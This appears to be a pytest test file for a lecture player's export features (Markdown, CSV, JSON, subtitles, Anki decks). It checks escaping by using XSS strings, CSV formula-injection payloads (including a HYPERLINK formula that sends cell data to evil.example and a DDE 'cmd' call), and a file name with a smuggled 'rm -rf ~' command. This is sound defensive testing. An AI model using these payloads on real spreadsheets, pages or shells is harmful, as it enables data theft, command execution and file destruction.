"""Study exports on a real library file: Markdown against a golden page, CSV/JSON read back,
subtitles of the highlighted lines read back, and an Anki package with real audio clips."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from player.core import exports
from player.core.exports import CSV_COLUMNS, ExportError, NothingToExport, collect, export
from player.core.formats import load
from player.core.library import Library
from player.core.safe_files import write_atomic
from player.core.transcript import Segment, Transcript

GOLDEN = Path(__file__).resolve().parent.parent / "data" / "exports"
YOUTUBE = "https://www.youtube.com/watch?v=dQw4w9WgXcQ"

# One line every two seconds over the 20 s tone, full of things a writer must escape.
LINES = [
    "Welcome to **signals** & systems_101.",
    "<script>alert('x')</script> is text, not code.",
    "# not a heading, just a hash",
    "Emoji 🎧 and Arabic: مرحبا بالعالم",
    'She said "quoted" and \'single\' — then [a link](javascript:alert(1)).',
    "Fourier transforms decompose periodic signals.",
    "- a dash that is not a list",
    "Convolution in time is multiplication in frequency.",
    "The Nyquist rate is twice the bandwidth.",
    "Thanks for listening!",
]
HOSTILE_NOTE = ("# not a heading\n<b>bold?</b> & <script>alert(1)</script>\n\n"
                "Second paragraph with *stars*, `code` and [sound:evil.mp3]\n1. not a list")


def _transcript(**extra) -> Transcript:
    return Transcript([Segment(i * 2000, i * 2000 + 2000, text) for i, text in enumerate(LINES)],
                      title="Lecture #1: <Signals> & *Systems*", **extra)


@pytest.fixture
def library(tmp_path):
    with Library.open(tmp_path / "library.sqlite") as opened:
        yield opened


@pytest.fixture
def lecture(library, tone_mp3):
    """The tone lecture with four highlights: hostile notes and tags, one without a note."""
    lecture = library.import_lecture(tone_mp3, _transcript())
    library.add_highlight(lecture.id, 500, 3500, 1, ["intro", "week 1"], HOSTILE_NOTE)
    library.add_highlight(lecture.id, 6000, 8000, 2, ["رياضيات", "<b>tag</b>"], None)
    library.add_highlight(lecture.id, 10_500, 11_800, 3, ["exam"], "Remember: 'F' = ∫ f·e^{-iωt} dt 👍")
    # Added out of order: exports are in time order whatever the ids.
    library.add_highlight(lecture.id, 2500, 3000, 2, ["exam", "week 1"], "- dash note\n  indented line")
    return lecture


def test_markdown_matches_the_golden_page(library, lecture):
    study = collect(library, lecture.id, source_url=YOUTUBE)
    page = exports.to_markdown(study)
    golden = GOLDEN / "lecture.md"
    if os.environ.get("UPDATE_GOLDEN"):
        golden.write_text(page, encoding="utf-8")
    assert page == golden.read_text(encoding="utf-8")
    assert f"]({YOUTUBE}&t=10s)" in page and f"]({YOUTUBE}&t=0s)" in page
    assert "<script>" not in page and "<b>" not in page
    assert "\n# not a heading" not in page and "\\# not a heading" in page


def test_markdown_of_a_local_file_has_plain_times_and_the_path(library, lecture):
    page = exports.to_markdown(collect(library, lecture.id, color=3))
    assert f"Source: {exports._md_text(lecture.path)}" in page
    assert "## 0:10–0:11\n" in page and "](" not in page.split("\n## ")[1]


def test_markdown_links_only_web_addresses(library, lecture):
    page = exports.to_markdown(collect(library, lecture.id, source_url="javascript:alert(1)"))
    assert "](javascript" not in page and "Source: javascript:alert(1)" not in page


def test_filters_by_tags_any_of_them_and_colour(library, lecture):
    assert [h.start_ms for h in collect(library, lecture.id, tags=["exam"]).highlights] == [2500, 10_500]
    assert [h.start_ms for h in collect(library, lecture.id, tags=["intro", "EXAM"]).highlights] == \
        [500, 2500, 10_500]
    assert [h.start_ms for h in collect(library, lecture.id, tags=["exam"], color=3).highlights] == [10_500]
    with pytest.raises(NothingToExport, match="no highlights with tag 'nope'"):
        collect(library, lecture.id, tags=["nope"])


def test_nothing_to_export_without_highlights(library, video_mp4):
    bare = library.import_lecture(video_mp4)
    with pytest.raises(NothingToExport, match="nothing to export"):
        collect(library, bare.id)


def test_csv_reads_back_with_the_same_values(library, lecture, tmp_path):
    study = collect(library, lecture.id)
    out = write_atomic(tmp_path / "highlights.csv", export(study, "csv"))
    with open(out, encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == len(study.highlights) == 4
    for row, highlight in zip(rows, study.highlights):
        assert int(row["id"]) == highlight.id
        assert float(row["start"]) == highlight.start_ms / 1000
        assert float(row["end"]) == highlight.end_ms / 1000
        assert int(row["color"]) == highlight.color
        assert row["tags"].split("; ") == list(highlight.tags)
        # A cell that a spreadsheet would take for a formula starts with "'" (the "- dash note").
        assert row["note"] == exports.csv_text(highlight.note or "")
        assert row["text"] == highlight.text and row["media"] == highlight.media_path
    assert rows[0]["start_clock"] == "0:00" and rows[3]["start_clock"] == "0:10"
    assert rows[0]["note"] == HOSTILE_NOTE  # multi-line, quotes and all


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\tindented=1", "\rcarriage=1"]


def test_csv_cells_that_start_a_formula_are_text(library, tone_mp3, tmp_path):
    lecture = library.import_lecture(tone_mp3, Transcript([Segment(0, 2000, "=1+1 said the lecturer")]))
    for index, formula in enumerate(FORMULAS):
        library.add_highlight(lecture.id, index * 10 + 10, 1000, 1, [formula.strip()], formula)
    library.add_highlight(lecture.id, 100, 1500, 2, ["plain"], "a = b + c, not a formula")
    study = collect(library, lecture.id)
    raw = export(study, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    notes = [row["note"] for row in rows]
    assert notes == ["'" + formula for formula in FORMULAS] + ["a = b + c, not a formula"]
    assert all(row["text"] == "'=1+1 said the lecturer" for row in rows)
    assert [row["tags"] for row in rows][:4] == ["'" + f.strip() for f in FORMULAS[:4]]
    # Every text cell is quoted (OWASP): read back as QUOTE_NONNUMERIC, an unquoted cell
    # would become a number; the text columns are all strings, the numbers numbers.
    typed = list(csv.reader(io.StringIO(raw, newline=""), quoting=csv.QUOTE_NONNUMERIC))[1:]
    text_columns = [CSV_COLUMNS.index(c) for c in ("start_clock", "tags", "note", "text", "media")]
    assert all(isinstance(row[i], str) for row in typed for i in text_columns)
    assert all(isinstance(row[CSV_COLUMNS.index("start")], float) for row in typed)
    assert '"\'=HYPERLINK(' in raw


def test_json_keeps_formula_looking_text_exactly(library, tone_mp3):
    lecture = library.import_lecture(tone_mp3, Transcript([Segment(0, 2000, "=1+1 said the lecturer")]))
    for index, formula in enumerate(FORMULAS):
        library.add_highlight(lecture.id, index * 10 + 10, 1000, 1, [], formula)
    objects = json.loads(export(collect(library, lecture.id), "json"))
    assert [item["note"] for item in objects] == FORMULAS
    assert {item["text"] for item in objects} == {"=1+1 said the lecturer"}


def test_json_reads_back_with_the_same_values(library, lecture, tmp_path):
    study = collect(library, lecture.id)
    raw = export(study, "json").decode("utf-8")
    assert "مرحبا" in raw and "🎧" in raw  # ensure_ascii=False
    objects = json.loads(raw)
    assert [list(item) for item in objects] == [list(CSV_COLUMNS)] * 4
    for item, highlight in zip(objects, study.highlights):
        assert item == {"id": highlight.id, "start": highlight.start_ms / 1000, "end": highlight.end_ms / 1000,
                        "start_clock": item["start_clock"], "color": highlight.color,
                        "tags": list(highlight.tags), "note": highlight.note, "text": highlight.text,
                        "media": highlight.media_path}
    assert objects[1]["tags"] == ["exam", "week 1"] and objects[2]["note"] is None
    assert export(study, "json") == export(study, "json")  # stable


@pytest.mark.parametrize("format", ["srt", "vtt"])
def test_subtitles_of_the_highlighted_lines_read_back(library, lecture, tmp_path, format):
    study = collect(library, lecture.id)
    out = write_atomic(tmp_path / f"highlights.{format}", export(study, format))
    back = load(out)
    # Lines 0-1 (0.5-3.5 s), 3 (6-8 s) and 5 (10.5-11.8 s), each once, in time order.
    assert [(s.start_ms, s.end_ms, s.text) for s in back.segments] == \
        [(i * 2000, i * 2000 + 2000, LINES[i]) for i in (0, 1, 3, 5)]


def test_subtitles_without_a_transcript_are_the_highlight_spans(library, video_mp4, tmp_path):
    bare = library.import_lecture(video_mp4)
    library.add_highlight(bare.id, 4000, 5000, 1, ["t"], "<i>second</i> --> note")
    library.add_highlight(bare.id, 1000, 2500, 1, [], "first & note")
    study = collect(library, bare.id)
    for format in ("srt", "vtt"):
        back = load(write_atomic(tmp_path / f"spans.{format}", export(study, format)))
        assert [(s.start_ms, s.end_ms, s.text) for s in back.segments] == \
            [(1000, 2500, "first & note"), (4000, 5000, "<i>second</i> --> note")]


def test_cloze_prompt_blanks_the_most_telling_word():
    text, word = exports.cloze_prompt("The Nyquist rate is twice the bandwidth.")
    assert word == "bandwidth" and text == "The Nyquist rate is twice the _________."
    assert exports.cloze_prompt("it is so") is None


def test_clip_arguments_are_a_list_seeking_before_the_input():
    args = exports.clip_arguments("ffmpeg", "a b; rm -rf ~.mp4", 1500, 4250, "out.mp3")
    assert args[args.index("-ss") + 1] == "1.500" and args[args.index("-t") + 1] == "2.750"
    assert args.index("-ss") < args.index("-i") and args[args.index("-i") + 1] == "a b; rm -rf ~.mp4"
    assert args[-6:] == ["-vn", "-c:a", "libmp3lame", "-q:a", "5", "out.mp3"]


def _open_apkg(data: bytes, tmp_path: Path):
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.testzip() is None
    media = json.loads(archive.read("media"))
    collection = tmp_path / "collection.anki2"
    collection.write_bytes(archive.read("collection.anki2"))
    conn = sqlite3.connect(collection)
    notes = conn.execute("SELECT guid, tags, flds FROM notes ORDER BY sfld").fetchall()
    decks = json.loads(conn.execute("SELECT decks FROM col").fetchone()[0])
    models = json.loads(conn.execute("SELECT models FROM col").fetchone()[0])
    conn.close()
    collection.unlink()
    return archive, media, notes, decks, models


def test_anki_package_has_a_card_and_a_clip_per_highlight(library, lecture, tmp_path):
    study = collect(library, lecture.id, source_url=YOUTUBE)
    data = export(study, "apkg")
    archive, media, notes, decks, models = _open_apkg(data, tmp_path)
    assert len(notes) == 4 and len(media) == 4
    for index, name in media.items():
        clip = archive.read(index)
        assert name.endswith(".mp3") and len(clip) > 1000
        assert clip[:3] == b"ID3" or clip[0] == 0xFF
    fields = {guid: flds.split("\x1f") for guid, _tags, flds in notes}
    every = "\x1f".join(flds for _g, _t, flds in notes)
    assert "<script>" not in every and "<b>" not in every and "[sound:evil" not in every
    sounds = sorted(f[2] for f in fields.values())
    assert sounds == sorted(f"[sound:{name}]" for name in media.values())
    fronts = [f[0] for f in fields.values()]
    assert any("&lt;script&gt;alert(1)&lt;/script&gt;" in front for front in fronts)
    # The highlight without a note asks for a blanked word of what was said.
    assert "Emoji 🎧 and Arabic: مرحبا _______" in fronts
    assert any(f"{YOUTUBE}&amp;t=10s" in f[3] for f in fields.values())
    tags = sorted(t.strip() for _g, t, _f in notes)
    assert "intro week_1" in tags and "&lt;b&gt;tag&lt;/b&gt; رياضيات" in tags
    assert any(deck["name"] == "Transcript Player::Lecture #1: <Signals> & *Systems*"
               for deck in decks.values())

    # Exporting again gives the same deck, note type and notes: Anki updates, not duplicates.
    _archive, _media, again, decks_again, models_again = _open_apkg(export(study, "apkg"), tmp_path)
    assert sorted(g for g, _t, _f in again) == sorted(fields)
    assert set(decks_again) == set(decks) and set(models_again) == set(models) == {str(exports.MODEL_ID)}


def test_anki_without_audio_and_with_missing_media(library, lecture, tmp_path):
    study = collect(library, lecture.id)
    _archive, media, notes, _decks, _models = _open_apkg(export(study, "apkg", audio=False), tmp_path)
    assert len(notes) == 4 and media == {}
    # The lecture's file is gone: a clear error, not a deck without its clips.
    gone = replace(study, lecture=replace(study.lecture, path=str(tmp_path / "gone.mp3")))
    with pytest.raises(ExportError, match="media file is missing"):
        export(gone, "apkg")


def test_anki_reports_media_without_audio(library, tmp_path, not_media):
    lecture = library.import_lecture(not_media)
    library.add_highlight(lecture.id, 0, 1000, 1, [], "a note")
    with pytest.raises(ExportError, match="cannot cut the audio"):
        export(collect(library, lecture.id), "apkg")


def test_anki_clips_stop_at_the_end_of_the_media(library, tone_mp3, tmp_path):
    from player.core.reel import probe

    lecture = library.import_lecture(tone_mp3, _transcript())   # the tone plays 20 s
    library.add_highlight(lecture.id, 1000, 2000, 1, [], "inside")
    library.add_highlight(lecture.id, 19_000, 25_000, 1, [], "runs past the end")
    library.add_highlight(lecture.id, 30_000, 31_000, 1, [], "wholly after the end")
    archive, media, notes, _decks, _models = _open_apkg(export(collect(library, lecture.id), "apkg"), tmp_path)
    assert len(notes) == 3 and len(media) == 2          # no clip for the highlight after the end
    lengths = {}
    for index, name in media.items():
        clip = tmp_path / name
        clip.write_bytes(archive.read(index))
        lengths[name.rsplit("-", 3)[-2]] = probe(clip).duration_ms
    assert 900 <= lengths["1000"] <= 1200
    assert 700 <= lengths["19000"] <= 1200                # cut at 20 s, not an empty or 6 s clip
    audio = {flds.split("\x1f")[0]: flds.split("\x1f")[2] for _g, _t, flds in notes}
    assert "[sound:" not in audio["wholly after the end"]
    assert "No audio clip" in audio["wholly after the end"] and "after the end of the media (0:20)" in \
        audio["wholly after the end"]


def test_exported_times_never_exceed_the_longest_lecture(library, lecture):
    from player.core.library import MAX_TIME_MS

    study = collect(library, lecture.id)
    # A library made before highlights were bounded may hold such times.
    absurd = replace(study, highlights=[replace(study.highlights[0], start_ms=10**15 - 1000, end_ms=10**15)]
                     + study.highlights[1:])
    for format in ("md", "csv", "json", "srt", "vtt"):
        written = export(absurd, format).decode("utf-8-sig")
        assert "277777777777" not in written and "27777777" not in written, format
    first = json.loads(export(absurd, "json"))[0]
    assert first["end"] == MAX_TIME_MS / 1000 and first["start_clock"] == "1000:00:00"
